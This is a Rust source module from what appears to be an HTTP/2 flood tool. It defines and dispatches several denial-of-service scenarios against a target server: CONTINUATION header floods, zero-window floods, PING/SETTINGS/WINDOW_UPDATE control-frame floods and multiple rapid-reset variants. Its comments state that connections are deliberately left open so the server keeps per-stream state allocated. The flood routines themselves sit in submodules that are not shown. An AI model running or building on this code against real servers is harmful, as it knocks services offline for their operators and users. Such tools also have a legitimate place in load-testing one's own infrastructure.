//! The scenario library: one routine per flood pattern.
//!
//! Every scenario starts the same way: TLS dial with h2 ALPN, client preface,
//! one initial SETTINGS frame, then (except for the zero-window flood, which
//! reads inline) a background reader draining inbound frames until the
//! connection dies. What follows the prologue is scenario-specific frame
//! emission; the connection is left open when the routine returns unless the
//! close is the point of the scenario.

use std::str::FromStr;

use eyre::eyre;
use squall_h2_parse::{Setting, SettingPairs};
use tracing::debug;

use crate::conn::Conn;
use crate::dict::HeaderDict;
use crate::transport::{CloseMode, Dialer};

pub mod continuation;
pub mod ctrl_frames;
pub mod rapid_reset;
pub mod zero_window;

pub const TRANSPORT_DEFAULT_STREAM_FLOW: u32 = 4 << 20;
pub const MAX_FRAME_SIZE: u32 = (1 << 24) - 1;
pub const MAX_HEADER_LIST_SIZE: u32 = 10 << 20;
pub const HEADER_TABLE_SIZE: u32 = 4096;

/// The initial SETTINGS every scenario sends right after the preface. The
/// zero-window flood passes 0 for `initial_window_size`, everything else
/// passes [`TRANSPORT_DEFAULT_STREAM_FLOW`].
pub fn initial_settings(initial_window_size: u32) -> [(Setting, u32); 5] {
    [
        (Setting::EnablePush, 0),
        (Setting::InitialWindowSize, initial_window_size),
        (Setting::MaxFrameSize, MAX_FRAME_SIZE),
        (Setting::MaxHeaderListSize, MAX_HEADER_LIST_SIZE),
        (Setting::HeaderTableSize, HEADER_TABLE_SIZE),
    ]
}

/// Free-running knobs shared by the scenario routines. Which fields matter
/// depends on the scenario; the CLI fills all of them.
pub struct Params {
    /// `:authority` for the CONTINUATION flood requests
    pub authority: String,
    /// streams per connection (CONTINUATION flood)
    pub streams: u64,
    /// fields per header block (CONTINUATION flood)
    pub headers_count: usize,
    /// frames (or streams) per connection for the control-frame and
    /// rapid-reset floods
    pub frame_count: usize,
    /// connections per iteration (zero-window flood)
    pub connections: usize,
    pub dict: HeaderDict,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CtrlFrameKind {
    Ping,
    Settings,
    WindowUpdate,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RapidResetKind {
    HeadersByMaxStreamsExceeded,
    HeadersByInvalidDependency,
    IncorrectFrameType,
    IncorrectHeader,
    WindowUpdate,
    Priority,
    Rst,
    Batch,
}

impl FromStr for RapidResetKind {
    type Err = eyre::Report;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "headers_by_max_streams_exceeded" => Ok(Self::HeadersByMaxStreamsExceeded),
            "headers_by_invalid_dependency" => Ok(Self::HeadersByInvalidDependency),
            "incorrect_frame_type" => Ok(Self::IncorrectFrameType),
            "incorrect_header" => Ok(Self::IncorrectHeader),
            "window_update" => Ok(Self::WindowUpdate),
            "priority" => Ok(Self::Priority),
            "rst" => Ok(Self::Rst),
            "batch" => Ok(Self::Batch),
            other => Err(eyre!("unknown rapid reset type: {other}")),
        }
    }
}

/// A flood pattern, resolved from the CLI flags once at startup. Workers
/// dispatch on the variant inside their loops; no string comparisons happen
/// after argument parsing.
#[derive(Debug, Clone, Copy)]
pub enum Scenario {
    Continuation,
    ZeroWindow { close: CloseMode },
    CtrlFrames(CtrlFrameKind),
    RapidReset(RapidResetKind),
}

impl Scenario {
    pub fn name(self) -> &'static str {
        match self {
            Scenario::Continuation => "continuation",
            Scenario::ZeroWindow { .. } => "zero_window",
            Scenario::CtrlFrames(CtrlFrameKind::Ping) => "ctrl_frames/ping_frame",
            Scenario::CtrlFrames(CtrlFrameKind::Settings) => "ctrl_frames/settings_frame",
            Scenario::CtrlFrames(CtrlFrameKind::WindowUpdate) => "ctrl_frames/window_update",
            Scenario::RapidReset(_) => "rapid_reset",
        }
    }

    /// Run one instance of this scenario. A dial failure is not an error:
    /// the endpoint may well be filtering us, which is a result too. The
    /// caller counts the run as finished either way.
    pub async fn run(self, cid: usize, dialer: &Dialer, params: &Params) -> eyre::Result<()> {
        if let Scenario::ZeroWindow { close } = self {
            return zero_window::flood(cid, dialer, close, params).await;
        }

        let (io, _sock) = match dialer.dial().await {
            Ok(conn) => conn,
            Err(e) => {
                debug!(cid, "connection error, filtered? {e}");
                return Ok(());
            }
        };

        let mut conn = Conn::new(cid, io);
        conn.write_preface().await?;
        conn.write_settings(SettingPairs(&initial_settings(TRANSPORT_DEFAULT_STREAM_FLOW)))
            .await?;
        conn.spawn_reader();

        match self {
            Scenario::Continuation => continuation::giant_header_block(&mut conn, params).await,
            Scenario::CtrlFrames(kind) => ctrl_frames::flood(&mut conn, kind, params).await,
            Scenario::RapidReset(kind) => rapid_reset::flood(&mut conn, kind, params).await,
            Scenario::ZeroWindow { .. } => unreachable!(),
        }

        // the connection is deliberately left open here: the background
        // reader still owns the read half, so dropping `conn` does not close
        // the socket, and the server keeps the per-stream state allocated
    }
}
